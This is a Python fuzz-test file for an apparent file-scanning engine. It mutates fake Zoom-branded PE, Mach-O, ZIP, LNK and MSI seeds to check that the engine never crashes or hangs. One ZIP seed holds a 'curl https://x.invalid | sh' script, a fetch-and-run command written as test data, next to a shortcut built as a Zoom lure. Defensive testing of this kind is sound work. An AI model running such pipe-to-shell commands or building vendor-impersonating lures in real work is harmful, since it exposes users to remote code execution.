"""Mutation fuzzing of the whole engine: thousands of damaged PE/Mach-O/ZIP/LNK/MSI files.

The engine must return a result for every input (never raise), no format parser may hit its catch-all
error path (that would hide a parser bug behind a SCAN_ERROR), every result must serialise to JSON, and no
input may take long (hypothesis' deadline catches hangs and quadratic blow-ups).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agent.analysis.context import AnalysisContext
from agent.analysis.engine import Engine
from agent.analysis.yara_scan import RuleSet
from agent.demo.pe_writer import build_pe as py_pe
from agent.rules_default import default_rules_dir
from tests.corpus import lnk_build, macho_build, zip_build
from tests.corpus.msi_build import build_msi
from tests.corpus.pe_build import build_pe
from tests.corpus.pki import make_pki
from tests.corpus.sign import sign

CACHE = Path(__file__).resolve().parent / ".cache"
INTERESTING = [b"\x00\x00\x00\x00", b"\xff\xff\xff\xff", b"\xff\xff\xff\x7f", b"\x00\x00\x00\x80",
               b"\x01\x00\x00\x00", b"\x00\x10\x00\x00"]


@pytest.fixture(scope="module")
def engine(make_ctx: Callable[..., AnalysisContext]) -> Engine:
    return Engine(make_ctx(now=datetime(2026, 6, 1, tzinfo=UTC)), RuleSet.compile(default_rules_dir()))


@pytest.fixture(scope="module")
def seeds(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    pki = make_pki(CACHE / "pki")
    work = tmp_path_factory.mktemp("fuzz")
    zoom = {"CompanyName": "Zoom Video Communications, Inc.", "ProductName": "Zoom"}
    signed_pe = sign(build_pe(CACHE, zoom), work / "s.exe", pki.vendor).read_bytes()
    root = macho_build.make_root()
    dev = macho_build.make_developer(root, "BJ4HAAB9B3")
    signed_macho = macho_build.build_macho(sign=macho_build.SignSpec(identifier="us.zoom.xos", team_id="BJ4HAAB9B3",
                                                                     flags=0, signer=dev))
    adhoc = macho_build.build_macho(sign=macho_build.SignSpec(identifier="us.zoom.xos"))
    return {
        "pe": py_pe(zoom),
        "pe-signed": signed_pe,
        "macho-signed": signed_macho,
        "macho-fat": macho_build.build_fat([("x86_64", adhoc), ("arm64", macho_build.build_macho("arm64"))]),
        "zip": zip_build.make({"a/ZoomInstaller.exe": py_pe(zoom), "a/Zoom.lnk": lnk_build.zoom_lure(),
                               "a/inner.zip": zip_build.make({"x.sh": b"#!/bin/sh\ncurl https://x.invalid | sh\n"})}),
        "lnk": lnk_build.zoom_lure(),
        "msi": sign(build_msi(CACHE, manufacturer="Zoom Video Communications, Inc.", name="Zoom"),
                    work / "s.msi", pki.vendor).read_bytes(),
    }


mutation = st.tuples(
    st.sampled_from(["flip", "set32", "truncate", "insert", "delete"]),
    st.floats(min_value=0, max_value=1, allow_nan=False),
    st.binary(min_size=1, max_size=16),
    st.sampled_from(INTERESTING),
)


def mutate(seed: bytes, ops: list[tuple[str, float, bytes, bytes]]) -> bytes:
    data = bytearray(seed)
    for op, where, blob, word in ops:
        if not data:
            break
        i = int(where * (len(data) - 1))
        if op == "flip":
            data[i] ^= blob[0] or 0x01
        elif op == "set32":
            data[i : i + 4] = word
        elif op == "truncate":
            del data[max(1, i) :]
        elif op == "insert":
            data[i:i] = blob
        else:
            del data[i : i + len(blob)]
    return bytes(data)


def check(engine: Engine, data: bytes, name: str) -> None:
    results = engine.scan(data, path=name)
    assert results and results[0].path == name
    for r in results:
        anomalies = r.facts.get("anomalies", [])
        assert not any(str(a).startswith("parser error") or "analysis error" in str(a) for a in anomalies), (
            r.path, anomalies)
        json.dumps(r.to_json())


FUZZ = settings(max_examples=600, deadline=2000, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                       HealthCheck.too_slow], derandomize=True)
NAMES = {"pe": "ZoomInstaller.exe", "pe-signed": "Zoom.exe", "macho-signed": "zoom.us", "macho-fat": "zoom.us",
         "zip": "task.zip", "lnk": "Zoom.lnk", "msi": "Zoom.msi"}


@pytest.mark.parametrize("kind", sorted(NAMES))
def test_mutated_inputs_never_crash_or_hang(engine: Engine, seeds: dict[str, bytes], kind: str) -> None:
    check(engine, seeds[kind], NAMES[kind])  # the unmutated seed itself must be fine

    @FUZZ
    @given(st.lists(mutation, min_size=1, max_size=8))
    def run(ops: list[tuple[str, float, bytes, bytes]]) -> None:
        check(engine, mutate(seeds[kind], ops), NAMES[kind])

    run()


@FUZZ
@given(st.binary(max_size=4096))
def test_random_bytes_never_crash(engine: Engine, data: bytes) -> None:
    check(engine, data, "random.bin")
